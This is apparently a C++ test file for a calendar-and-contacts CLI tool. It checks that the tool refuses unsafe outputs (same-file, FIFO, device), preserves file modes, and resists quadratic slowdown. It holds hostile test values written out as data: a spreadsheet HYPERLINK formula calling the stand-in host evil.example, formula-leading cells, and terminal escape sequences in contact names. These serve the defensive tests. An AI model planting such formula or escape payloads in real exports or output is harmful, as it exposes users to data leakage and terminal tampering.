// What the program writes, and where, when the user's paths or the people in their files are
// careless or hostile: two outputs onto one file, outputs onto a FIFO or a device, a spreadsheet
// opened on `match --format csv`, names with terminal escapes, attendee lists of 100,000 people
// (issue "Secrets, limits and hostile input", docs/hardening.md).
#include "../support/local_servers.hpp"
#include "../support/run_program.hpp"
#include "../support/sanitizers.hpp"

#include <catch2/catch.hpp>

#include <nlohmann/json.hpp>

#include <sstream>
#include <sys/stat.h>

using sidetrip::test::read_text;
using sidetrip::test::TempFolder;
using sidetrip::test::write_text;
namespace fs = std::filesystem;

namespace {

std::string source(const std::string& relative) {
    return std::string(SIDETRIP_SOURCE_DIR) + "/" + relative;
}

std::vector<std::string> plan_args(const std::string& calendar = source("samples/calendar.ics")) {
    return {"plan",       "--calendar",     calendar, "--contacts", source("samples/contacts.vcf"),
            "--home",     "Lipa, Batangas", "--from", "2027-01-01", "--to",
            "2027-02-01", "--iterations",   "20"};
}

std::vector<std::string> with(std::vector<std::string> args, const std::vector<std::string>& more) {
    args.insert(args.end(), more.begin(), more.end());
    return args;
}

unsigned permissions(const fs::path& path) {
    struct stat about {};
    REQUIRE(::stat(path.c_str(), &about) == 0);
    return about.st_mode & 07777;
}

} // namespace

TEST_CASE("two outputs onto one file however it is spelled are refused before anything is written",
          "[cli][outputs]") {
    TempFolder folder;
    fs::create_directories(folder / "sub");
    fs::create_directories(folder / "kept");
    write_text(folder / "kept" / "old.ics", "old\n");
    fs::create_symlink(folder / "kept" / "old.ics", folder / "link.html");
    const std::string a = (folder / "a.ics").string();
    const std::pair<std::vector<std::string>, std::string> refused[] = {
        // The audit's case: one name written as "a.ics" and "./a.ics".
        {with(plan_args(), {"-o", a, "--report", (folder / "." / "a.ics").string()}), "--report"},
        {with(plan_args(), {"--map", (folder / "m.geojson").string(), "--report",
                            (folder / "sub" / ".." / "m.geojson").string()}),
         "--map"},
        // An existing file and a symlink to it.
        {with(plan_args(),
              {"-o", (folder / "kept" / "old.ics").string(), "--report", (folder / "link.html").string()}),
         "--report"},
    };
    for (const auto& [args, flag] : refused) {
        const auto r = sidetrip::test::run_sidetrip(args, folder.path());
        INFO(r.err);
        CHECK(r.exit_code == 2);
        CHECK(r.err.find("is the same file") != std::string::npos);
        CHECK(r.err.find(flag + " ") != std::string::npos);
        CHECK(r.out.empty());
    }
    CHECK_FALSE(fs::exists(a));
    CHECK_FALSE(fs::exists(folder / "m.geojson"));
    CHECK(read_text(folder / "kept" / "old.ics") == "old\n");
}

TEST_CASE("an output onto a FIFO or a device is refused and the special file stays what it was",
          "[cli][outputs]") {
    TempFolder folder;
    const auto fifo = folder / "pipe.ics";
    REQUIRE(::mkfifo(fifo.c_str(), 0600) == 0);
    REQUIRE(::mkfifo((folder / "pipe.geojson").c_str(), 0600) == 0);
    // The device through a symlink: a build without the check replaces the link, never
    // /dev/null itself (the audit's `-o /dev/null` as root did).
    const auto device = folder / "null.ics";
    fs::create_symlink("/dev/null", device);
    for (const auto& [flag, target] :
         std::vector<std::pair<std::string, std::string>>{{"-o", fifo.string()},
                                                          {"-o", device.string()},
                                                          {"--report", device.string()},
                                                          {"--map", (folder / "pipe.geojson").string()},
                                                          {"-o", folder.path().string()}}) {
        const auto r = sidetrip::test::run_sidetrip(with(plan_args(), {flag, target}), folder.path());
        INFO(flag << " " << target << ": " << r.err);
        CHECK(r.exit_code == 2);
        CHECK(r.err.find(flag + " " + target) != std::string::npos);
    }
    struct stat about {};
    REQUIRE(::stat(fifo.c_str(), &about) == 0);
    CHECK(S_ISFIFO(about.st_mode));
    REQUIRE(::stat(device.c_str(), &about) == 0);
    CHECK(S_ISCHR(about.st_mode));
    // --dry-run writes nothing, so it may name anything that is not an input.
    const auto dry =
        sidetrip::test::run_sidetrip(with(plan_args(), {"-o", fifo.string(), "--dry-run"}), folder.path());
    CHECK(dry.exit_code == 0);
}

TEST_CASE("an output in a missing folder is refused before the calendars are read", "[cli][outputs]") {
    TempFolder folder;
    // The calendar does not exist either: the output is checked first, so its error is the one
    // shown, and a long plan is never computed only to be lost.
    const auto r = sidetrip::test::run_sidetrip(
        with(plan_args((folder / "missing.ics").string()), {"-o", (folder / "nowhere" / "s.ics").string()}),
        folder.path());
    INFO(r.err);
    CHECK(r.exit_code == 2);
    CHECK(r.err.find("nowhere") != std::string::npos);
    CHECK(r.err.find("does not exist; create it first") != std::string::npos);
    CHECK(r.err.find("missing.ics") == std::string::npos);
    if (::geteuid() != 0) { // root may write anywhere
        fs::create_directories(folder / "locked");
        fs::permissions(folder / "locked", fs::perms::owner_read | fs::perms::owner_exec);
        const auto locked =
            sidetrip::test::run_sidetrip(with(plan_args((folder / "missing.ics").string()),
                                              {"--report", (folder / "locked" / "r.html").string()}),
                                         folder.path());
        CHECK(locked.exit_code == 2);
        CHECK(locked.err.find("cannot write in the folder") != std::string::npos);
        fs::permissions(folder / "locked", fs::perms::owner_all);
    }
}

TEST_CASE("a rewritten private output keeps its mode: 0600 stays 0600 for the calendar, report and map",
          "[cli][outputs]") {
    TempFolder folder;
    const auto ics = folder / "s.ics";
    const auto html = folder / "r.html";
    const auto map = folder / "m.geojson";
    for (const auto& path : {ics, html, map}) {
        write_text(path, "old\n");
        fs::permissions(path, fs::perms::owner_read | fs::perms::owner_write);
    }
    const auto r = sidetrip::test::run_sidetrip(
        with(plan_args(), {"-o", ics.string(), "--report", html.string(), "--map", map.string()}),
        folder.path());
    INFO(r.err);
    REQUIRE(r.exit_code == 0);
    for (const auto& path : {ics, html, map}) {
        INFO(path);
        CHECK(read_text(path) != "old\n");
        CHECK(permissions(path) == 0600);
    }
}

TEST_CASE("match as CSV writes a cell that a spreadsheet would run as a formula as quoted text",
          "[cli][outputs]") {
    TempFolder folder;
    write_text(folder / "contacts.vcf",
               "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:+639171234567\r\nFN:@SUM(1+1)*cmd\r\n"
               "EMAIL:rosa@example.com\r\nEND:VCARD\r\n");
    write_text(folder / "attendees.csv",
               "Name,Email\n"
               "\"=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"Rosa\"\")\",rosa@example.com\n");
    const auto r =
        sidetrip::test::run_sidetrip({"match", "--attendees", (folder / "attendees.csv").string(),
                                      "--contacts", (folder / "contacts.vcf").string(), "--format", "csv"},
                                     folder.path());
    INFO(r.out << r.err);
    REQUIRE(r.exit_code == 0);
    const auto lines = [&] {
        std::vector<std::string> out;
        std::istringstream in(r.out);
        for (std::string line; std::getline(in, line);) {
            out.push_back(line);
        }
        return out;
    }();
    REQUIRE(lines.size() == 2);
    // Every cell of the row: none starts with a formula character once its quotes are removed.
    CHECK(lines[1].find(",\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"Rosa\"\")\",") !=
          std::string::npos);
    CHECK(lines[1].find(",\"'+639171234567\",") != std::string::npos);
    CHECK(lines[1].find(",\"'@SUM(1+1)*cmd\",") != std::string::npos);
    for (const std::string bad : {",=", ",+", ",@", ",-", ",\"=", ",\"+", ",\"@", ",\"-"}) {
        CHECK(lines[1].find(bad) == std::string::npos);
    }
}

TEST_CASE("warnings quote names with terminal escapes as \\x1B, never as the escape itself",
          "[cli][outputs]") {
    TempFolder folder;
    // vCard 2.1 quoted-printable: ESC ] 0 ; title BEL sets the window title, ESC [ 2 J clears the
    // screen. Two cards with one UID make the reader warn with the name.
    const std::string card = "BEGIN:VCARD\r\nVERSION:2.1\r\nUID:dup-1\r\n"
                             "FN;ENCODING=QUOTED-PRINTABLE:Ana=1B]0;pwned=07=1B[2J Reyes\r\n"
                             "EMAIL:ana@example.com\r\nEND:VCARD\r\n";
    write_text(folder / "esc.vcf", card + card);
    for (const auto& format : {"text", "json"}) {
        const auto r = sidetrip::test::run_sidetrip(
            {"contacts", "--contacts", (folder / "esc.vcf").string(), "--country", "PH", "--format", format},
            folder.path());
        INFO(r.err);
        CHECK(r.exit_code == 0);
        CHECK(r.err.find("already used") != std::string::npos);
        CHECK(r.err.find('\x1b') == std::string::npos);
        CHECK(r.err.find('\x07') == std::string::npos);
        CHECK(r.err.find("Ana\\x1B]0;pwned\\x07\\x1B[2J Reyes") != std::string::npos);
        CHECK(r.out.find('\x1b') == std::string::npos);
    }
    // An error message quoting a file's text goes through the same filter.
    write_text(folder / "bad\x1b[2J.ics", "not a calendar");
    const auto bad =
        sidetrip::test::run_sidetrip({"events", "--calendar", (folder / "bad\x1b[2J.ics").string(), "--from",
                                      "2027-01-01", "--to", "2027-02-01"},
                                     folder.path());
    CHECK(bad.exit_code == 2);
    CHECK(bad.err.find('\x1b') == std::string::npos);
    CHECK(bad.err.find("bad\\x1B[2J.ics") != std::string::npos);
}

TEST_CASE("an .ics schedule with 100,000 attendees is read as an attendee list in seconds",
          "[cli][outputs]") {
    TempFolder folder;
    std::string ics = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//sidetrip tests//EN\r\nBEGIN:VEVENT\r\n"
                      "UID:conf-1@example.org\r\nDTSTAMP:20270101T000000Z\r\nDTSTART:20270412T090000Z\r\n"
                      "DTEND:20270412T170000Z\r\nSUMMARY:DataCon 2027\r\n";
    for (int i = 0; i < 100000; ++i) {
        ics += "ATTENDEE;CN=Person " + std::to_string(i) + ":mailto:person" + std::to_string(i) +
               "@example.org\r\n";
    }
    // The same people again, spelled in capitals: counted once.
    for (int i = 0; i < 1000; ++i) {
        ics += "ATTENDEE:mailto:PERSON" + std::to_string(i) + "@EXAMPLE.ORG\r\n";
    }
    ics += "ATTENDEE:mailto:rosa@example.com\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    write_text(folder / "schedule.ics", ics);
    write_text(folder / "contacts.vcf",
               "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Rosa Aquino\r\nEMAIL:rosa@example.com\r\nEND:VCARD\r\n");
    const auto r =
        sidetrip::test::run_sidetrip({"match", "--attendees", (folder / "schedule.ics").string(),
                                      "--contacts", (folder / "contacts.vcf").string(), "--format", "json"},
                                     folder.path(), "/dev/null", 120.0);
    INFO(r.err.substr(0, 2000));
    REQUIRE(r.exit_code == 0);
    // Each attendee compared with every earlier one took 51 s here; a set takes under one.
    CHECK(r.seconds < 5.0 * sidetrip::test::SanitizerFactor);
    const auto known = nlohmann::json::parse(r.out);
    REQUIRE(known["known"].size() == 1);
    // Rows count distinct people: the 1,000 capitalised repeats took no row.
    CHECK(known["known"][0]["attendee"] == 100000);
}
